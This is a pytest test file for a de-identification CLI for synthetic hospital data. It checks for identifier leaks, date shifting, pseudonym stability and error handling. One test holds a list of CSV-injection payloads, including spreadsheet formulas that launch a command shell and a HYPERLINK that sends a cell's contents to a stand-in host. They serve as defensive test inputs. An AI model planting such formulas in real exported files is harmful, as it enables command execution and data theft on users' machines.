"""`medserve deid` on a synthetic identified table, as a hospital analyst would run it."""

from __future__ import annotations

import json
import logging
import re
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from deid.hard_table import make_hard, surviving
from deid.synthetic import CLINICAL_WORDS, Identified
from medserve.cli import app
from medserve.deid import DeidReport

runner = CliRunner()
CLINICAL_COLUMNS = ["sex", "glucose", "systolic_bp", "diagnosis"]
SHIFT_POLICY = "dates: shift\npatient_id: mrn\nreference_date: 2025-01-01\n"
# Identifiers from the table's own columns: gone from every file, line and log.
FROM_COLUMNS = (
    "name",
    "record_id",
    "ssn",
    "phone",
    "email",
    "street_address",
    "city",
    "birth_date",
    "date",
    "age over 89",
)
# People the notes mention who are in no column: gone from their own note when a title
# or relation gives them away. Names with no such cue are a known miss of the rule-based
# scrubber (README, bench/deid_recall.py): measured there, not asserted here.
WITH_CUE = ("name (relative, surname in a column)", "name (after Dr.)")


def run(*args: object):
    return runner.invoke(app, ["deid", *map(str, args)])


def read_back(path: Path) -> pd.DataFrame:
    if path.suffix == ".parquet":
        return pd.read_parquet(path)
    return pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])


def leaked(text: str, identified: Identified, kinds=FROM_COLUMNS) -> list[str]:
    """The kinds of planted identifiers still in ``text`` (never the values themselves)."""
    kind_of = {value: kind for kind in kinds for value in identified.planted[kind]}
    surnames = {n.split()[-1] for n in identified.planted["name"]}
    # "White noted" and "Graves disease" are not Ms White and Mr Graves
    clinical = {w.casefold().removesuffix("'s") for p in CLINICAL_WORDS for w in p.split()}
    kind_of |= {s: "surname" for s in surnames if s.casefold() not in clinical}
    kind_of |= dict.fromkeys(identified.planted["zip"], "zip")
    values = sorted(kind_of, key=len, reverse=True)
    pattern = re.compile(rf"(?<!\w)(?:{'|'.join(map(re.escape, values))})(?!\w)")
    return sorted({kind_of[match] for match in pattern.findall(text)})


def leaked_from_own_note(notes: pd.Series, identified: Identified) -> list[str]:
    return [
        kind
        for note, planted in zip(notes, identified.note_identifiers, strict=True)
        for kind, value in planted
        if kind in WITH_CUE and re.search(rf"\b{re.escape(value)}\b", note)
    ]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_deid_leaves_no_planted_identifier_anywhere(
    tmp_path, home, identified, identified_csv, caplog, suffix
):
    caplog.set_level(logging.DEBUG)
    output = tmp_path / f"clean{suffix}"
    result = run(identified_csv, "-o", output, "--report")
    assert result.exit_code == 0, result.output
    clean = read_back(output)
    report_file = tmp_path / "clean.deid.json"
    texts = {
        "output": clean.to_csv(index=False),
        "report": report_file.read_text(),
        "console": result.output,
        "logs": caplog.text,
        "home": "\n".join(p.read_bytes().decode("latin-1") for p in home.rglob("*") if p.is_file()),
    }
    assert {where: leaked(text, identified) for where, text in texts.items()} == dict.fromkeys(
        texts, []
    )
    assert leaked_from_own_note(clean["notes"], identified) == []
    assert not re.search(r"\d{4}-\d\d-\d\d|\d\d?/\d\d?/\d{4}", texts["output"])
    source = identified.frame
    pd.testing.assert_frame_equal(
        clean[CLINICAL_COLUMNS].astype(str), source[CLINICAL_COLUMNS].astype(str)
    )
    for column in ("patient_name", "ssn", "phone", "email", "address", "city"):
        assert column not in clean.columns
    assert clean["admission_date"].astype(str).tolist() == [d[:4] for d in source["admission_date"]]
    ages = source["age"].astype(int)
    assert (clean["age"][ages > 89] == "90+").all()
    assert clean["age"][ages <= 89].tolist() == source["age"][ages <= 89].tolist()
    assert all(z == "000" or z == s[:3] for z, s in zip(clean["zip"], source["zip"], strict=True))
    assert "wrote" in result.output and "report:" in result.output


def test_date_shift_keeps_each_patients_intervals_and_moves_every_date(
    tmp_path, home, identified, identified_csv
):
    policy = tmp_path / "policy.yaml"
    policy.write_text(SHIFT_POLICY)
    output = tmp_path / "clean.csv"
    result = run(identified_csv, "-o", output, "--policy", policy)
    assert result.exit_code == 0, result.output
    clean, source = read_back(output), identified.frame
    # shifted dates may land on another patient's real date, so dates are checked per row
    undated = tuple(kind for kind in FROM_COLUMNS if kind not in ("date", "birth_date"))
    assert leaked(clean.to_csv(index=False), identified, kinds=undated) == []

    def as_dates(frame: pd.DataFrame, column: str) -> pd.Series:
        return pd.to_datetime(frame[column])

    stay_before = as_dates(source, "discharge_date") - as_dates(source, "admission_date")
    stay_after = as_dates(clean, "discharge_date") - as_dates(clean, "admission_date")
    assert stay_after.equals(stay_before)
    moved = as_dates(clean, "admission_date") - as_dates(source, "admission_date")
    assert (moved != pd.Timedelta(0)).all()
    per_patient = moved.groupby(source["mrn"]).nunique()
    assert (per_patient == 1).all()  # so every interval between a patient's dates is kept
    assert per_patient.size < len(source)  # patients with several admissions were checked
    assert moved.groupby(source["mrn"]).first().nunique() > 50


def test_same_patient_same_pseudonym_across_files_and_not_under_another_key(
    tmp_path, monkeypatch, home, identified
):
    source = identified.frame
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    source.iloc[:120].to_csv(first, index=False)
    source.iloc[100:].to_csv(second, index=False)
    assert run(first, "-o", tmp_path / "a_clean.csv").exit_code == 0
    assert run(second, "-o", tmp_path / "b_clean.csv").exit_code == 0
    monkeypatch.setenv("MEDSERVE_HOME", str(tmp_path / "other_home"))
    assert run(second, "-o", tmp_path / "b_other.csv").exit_code == 0
    a, b = read_back(tmp_path / "a_clean.csv"), read_back(tmp_path / "b_clean.csv")
    other = read_back(tmp_path / "b_other.csv")
    pseudonym_of = dict(zip(source["mrn"].iloc[:120], a["mrn"], strict=True))
    shared = [
        (mrn, pseudonym)
        for mrn, pseudonym in zip(source["mrn"].iloc[100:], b["mrn"], strict=True)
        if mrn in pseudonym_of
    ]
    assert len(shared) >= 20
    assert all(pseudonym_of[mrn] == pseudonym for mrn, pseudonym in shared)
    assert not set(other["mrn"]) & set(b["mrn"])


def test_json_output_is_one_object_with_the_report(tmp_path, home, identified_csv):
    output = tmp_path / "clean.csv"
    result = run(identified_csv, "-o", output, "--json", "--report")
    assert result.exit_code == 0, result.output
    payload = json.loads(result.stdout)
    assert payload["output"] == str(output)
    assert payload["report_file"] == str(tmp_path / "clean.deid.json")
    report = payload["report"]
    assert report == json.loads((tmp_path / "clean.deid.json").read_text())
    assert report["policy"]["fingerprint"] == "default"
    assert report["text_engine"].startswith("rules")
    by_column = {c["column"]: c for c in report["columns"]}
    assert by_column["ssn"]["action"] == "drop"
    assert by_column["mrn"]["action"] == "pseudonymise"
    assert by_column["notes"]["details"]["[SSN]"] == 200
    risk = report["k_anonymity"]
    assert {q["column"] for q in risk["quasi_identifiers"]} == {
        "age",
        "sex",
        "zip",
        "date_of_birth",
    }
    assert risk["k"] == 5 and 0 <= risk["share_in_groups_below_k"] <= 1


def bad_policy(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "policy.yaml"
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    ("case", "message"),
    [
        ("missing column", "names column(s) not in the data: weight"),
        ("unknown action", "column 'glucose': unknown action 'hash'"),
        ("unreadable csv", "not a readable CSV file"),
        ("unreadable parquet", "not a readable Parquet file"),
        ("no such file", "no such file"),
        ("mixed dates and text", "column 'admission_date' mixes dates and other values: row 17"),
        ("bad output type", "cannot write '.xlsx' files"),
    ],
)
def test_bad_input_gives_one_clear_line_and_writes_nothing(
    tmp_path, home, identified, identified_csv, case, message
):
    data, output, policy = identified_csv, tmp_path / "out" / "clean.csv", None
    output.parent.mkdir()
    if case == "missing column":
        policy = bad_policy(tmp_path, "columns:\n  weight: drop\n")
    elif case == "unknown action":
        policy = bad_policy(tmp_path, "columns:\n  glucose: hash\n")
    elif case == "unreadable csv":
        data = tmp_path / "broken.csv"
        data.write_bytes(b"name,mrn\n\xff\xfe\x00garbage\x81\n")
    elif case == "unreadable parquet":
        data = tmp_path / "broken.parquet"
        data.write_bytes(b"PAR1 this is not parquet")
    elif case == "no such file":
        data = tmp_path / "absent.csv"
    elif case == "mixed dates and text":
        frame = identified.frame.copy()
        frame.loc[16, "admission_date"] = "Secretname Unlikely"
        frame.to_csv(data, index=False)
    elif case == "bad output type":
        output = output.with_suffix(".xlsx")
    args = [data, "-o", output] + (["--policy", policy] if policy else [])
    result = run(*args)
    assert result.exit_code == 2, result.output
    assert message in result.output
    assert "Traceback" not in result.output
    assert len(result.output.strip().splitlines()) == 1, result.output
    assert "Secretname" not in result.output
    assert list(output.parent.iterdir()) == []


def test_a_failed_run_leaves_an_earlier_output_untouched(tmp_path, home, identified_csv):
    output = tmp_path / "clean.csv"
    output.write_text("earlier,run\n1,2\n")
    policy = bad_policy(tmp_path, "columns:\n  glucose: hash\n")
    assert run(identified_csv, "-o", output, "--policy", policy).exit_code == 2
    assert output.read_text() == "earlier,run\n1,2\n"


def test_an_error_inside_de_identification_is_one_line_on_stderr(tmp_path, home, fake):
    data = tmp_path / "admissions.csv"
    dates = [fake.date() for _ in range(9)] + ["not a date"]
    pd.DataFrame({"admission_date": dates, "glucose": ["5.5"] * 10}).to_csv(data, index=False)
    run(data, "-o", tmp_path / "first.csv")  # creates the key, which says so on stderr
    result = run(data, "-o", tmp_path / "clean.csv")
    assert result.exit_code == 2
    assert result.stderr.startswith("error: column 'admission_date'"), repr(result.stderr)
    assert len(result.stderr.splitlines()) == 1


def test_keeping_an_identifier_is_said_loudly_and_in_the_report(tmp_path, home, fake):
    data = tmp_path / "patients.csv"
    frame = pd.DataFrame({"SSN": [fake.ssn() for _ in range(8)], "glucose": ["5.5"] * 8})
    frame.to_csv(data, index=False)
    policy = bad_policy(tmp_path, "columns:\n  SSN: keep\n")
    result = run(data, "-o", tmp_path / "clean.csv", "--policy", policy, "--report")
    assert result.exit_code == 0, result.output
    assert "WARNING: the output is NOT HIPAA Safe Harbor" in result.stderr
    assert "SSN" in result.stderr and "NOT HIPAA Safe Harbor" in result.stdout
    report = json.loads((tmp_path / "clean.deid.json").read_text())
    assert report["safe_harbor"] is False and report["kept_identifiers"] == ["SSN"]


# Cells a spreadsheet would run (OWASP CSV injection), each written first in a text cell.
FORMULA_PAYLOADS = (
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?leak="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
)
PLAIN_NUMBERS = ("-5", "+2.5", "-1e3", "42")


def read_cells(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_deid_output_cells_that_a_spreadsheet_would_run_are_made_inert(tmp_path, home, payload):
    data = tmp_path / "visits.csv"
    frame = pd.DataFrame(
        {"ward": ["ICU", payload, "5 North", "ICU"], "delta": [*PLAIN_NUMBERS], "glucose": "5.5"}
    )
    frame.to_csv(data, index=False, lineterminator="\r\n")  # CRLF: the CR cell is quoted
    assert run(data, "-o", tmp_path / "clean.csv").exit_code == 0
    clean = read_cells(tmp_path / "clean.csv")
    assert len(clean) == 4  # a carriage return in a cell does not start a new row
    assert clean["ward"].tolist() == ["ICU", "'" + payload, "5 North", "ICU"]
    assert clean["delta"].tolist() == list(PLAIN_NUMBERS)  # numbers, negative ones too, stay
    raw = run(data, "-o", tmp_path / "raw.csv", "--raw-cells")
    assert raw.exit_code == 0, raw.output
    assert read_cells(tmp_path / "raw.csv")["ward"].tolist() == frame["ward"].tolist()
    assert run(data, "-o", tmp_path / "clean.parquet").exit_code == 0
    assert pd.read_parquet(tmp_path / "clean.parquet")["ward"].tolist() == frame["ward"].tolist()


def test_a_header_a_spreadsheet_would_run_is_made_inert_too(tmp_path, home):
    data = tmp_path / "visits.csv"
    pd.DataFrame({"=1+1": ["a", "b"], "glucose": ["5.5", "6.1"]}).to_csv(data, index=False)
    assert run(data, "-o", tmp_path / "clean.csv").exit_code == 0
    assert list(read_cells(tmp_path / "clean.csv").columns) == ["'=1+1", "glucose"]


def test_the_report_file_is_typed_and_flags_what_a_person_must_review(tmp_path, home):
    hard = make_hard(patients=6, visits=5, seed=2)
    phone = "(555) 201-3344"
    frame = hard.frame.assign(status=["stable"] * 27 + [phone] * 3)
    data = tmp_path / "visits.csv"
    frame.to_csv(data, index=False)
    result = run(data, "-o", tmp_path / "clean.csv", "--report")
    assert result.exit_code == 0, result.output
    written = (tmp_path / "clean.deid.json").read_text()
    report = DeidReport.model_validate_json(written)
    assert report.safe_harbor is False
    assert [(flag.column, flag.reason, flag.kind) for flag in report.review] == [
        ("note", "scrubbed_text", None),
        ("status", "identifier_values", "phone"),
    ]
    assert "WARNING: the output is NOT HIPAA Safe Harbor" in result.stderr
    assert "status (values that look like identifiers)" in result.stderr
    assert "REVIEW" in result.stdout
    assert phone not in written + result.output
    assert surviving(read_back(tmp_path / "clean.csv"), hard) == []


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_years_left_under_a_name_that_says_no_date_are_no_feature_of_the_output(
    tmp_path, home, suffix
):
    """A date column found by its content (`seen`) holds only years once de-identified;
    its name then says so (`seen_year`), and `medserve schema` on the written file leaves
    it out of the features as it does the years of `admission_date`."""
    rows = 60
    source = pd.DataFrame(
        {
            "seen": pd.date_range("2015-02-03", periods=rows, freq="47D").strftime("%Y-%m-%d"),
            "admission_date": pd.date_range("2016-05-01", periods=rows, freq="29D").strftime(
                "%Y-%m-%d"
            ),
            "glucose": [f"{90 + (i * 7) % 50}.5" for i in range(rows)],
            "readmitted": [i % 3 == 0 for i in range(rows)],
        }
    )
    source.to_csv(tmp_path / "visits.csv", index=False)
    output = tmp_path / f"clean{suffix}"
    done = run(tmp_path / "visits.csv", "-o", output, "--report")
    assert done.exit_code == 0, done.output
    assert "renamed so that the name says year: seen → seen_year" in done.stdout
    report = json.loads((tmp_path / "clean.deid.json").read_text())
    seen = next(c for c in report["columns"] if c["column"] == "seen")
    assert (seen["kind"], seen["detected_by"]) == ("date", "content")
    assert seen["written_as"] == "seen_year"
    clean = read_back(output)
    assert list(clean.columns) == ["seen_year", "admission_date", "glucose", "readmitted"]
    assert clean["seen_year"].astype(int).between(2015, 2023).all()
    shown = runner.invoke(app, ["schema", str(output), "--target", "readmitted", "--json"])
    assert shown.exit_code == 0, shown.output
    schema = json.loads(shown.stdout)
    roles = {c["name"]: c["role"] for c in schema["columns"]}
    assert roles == {
        "seen_year": "time",
        "admission_date": "time",
        "glucose": "feature",
        "readmitted": "target",
    }
    assert any(n.startswith("'seen_year' holds years") for n in schema["notices"])
